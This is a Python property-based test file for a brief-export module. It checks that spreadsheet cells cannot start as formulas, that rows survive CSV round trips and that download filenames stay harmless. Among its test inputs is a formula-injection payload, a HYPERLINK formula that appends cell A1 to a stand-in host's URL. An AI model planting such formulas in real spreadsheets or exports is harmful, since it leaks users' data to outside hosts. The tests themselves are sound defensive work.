"""Files of briefs do no harm, whatever stands in titles and names."""

import csv
import io
import re
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.api.brief_export import disposition, one_line, safe_cell

hostile = st.text(st.sampled_from("=+-@\t\r\n'\";,. a1\u2028\x85\0/\\é＝"), max_size=12) | st.text(max_size=30)


FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@given(hostile)
def test_no_text_is_a_formula_and_none_is_lost(text):
    cell = safe_cell(text)
    assert not cell.lstrip(" ").startswith((*FORMULAS, "\t", "\r", "\n"))
    assert re.sub("'", "", cell) == re.sub("'", "", text)
    if not re.search(r"[;\t\r\n]", text):
        assert cell in {text, f"'{text}"}


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@given(cells=st.lists(hostile, min_size=1, max_size=4))
@example(cells=['song;=HYPERLINK("http://a.example/"&A1,"x")'])
@example(cells=['song;"=1+1"', "a, b\n -1", ";\t=1", '";"=1"'])
def test_no_cell_is_a_formula_wherever_spreadsheets_split_the_table(separator, cells):
    written = io.StringIO()
    csv.writer(written).writerow([1, *map(safe_cell, cells)])
    for row in csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=separator):
        assert not [cell for cell in row if cell.strip().startswith(FORMULAS)]


@given(st.floats(allow_nan=False) | st.integers() | st.none())
def test_what_is_no_text_stays_as_it_is(value):
    assert safe_cell(value) is value


@given(st.lists(hostile, min_size=1, max_size=5))
def test_cells_come_back_from_a_table_one_by_one(cells):
    written = io.StringIO()
    csv.writer(written).writerow([safe_cell(cell) for cell in cells])
    [row] = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert row == [safe_cell(cell) for cell in cells]


@given(hostile)
def test_a_line_is_one_line(text):
    assert len(one_line(text).splitlines()) <= 1


@given(hostile)
def test_a_header_holds_one_harmless_name(text):
    header = disposition(f"{text}.csv")
    header.encode("ascii")
    assert header.isprintable()
    plain, _, encoded = header.partition("; filename*=UTF-8''")
    assert plain.startswith('attachment; filename="')
    assert plain.count('"') == 2
    assert plain.endswith('.csv"')
    name = unquote(encoded)
    assert name.endswith(".csv")
    assert not set('/\\:*?"<>|\r\n\0') & set(name)
    assert not name.startswith(".")
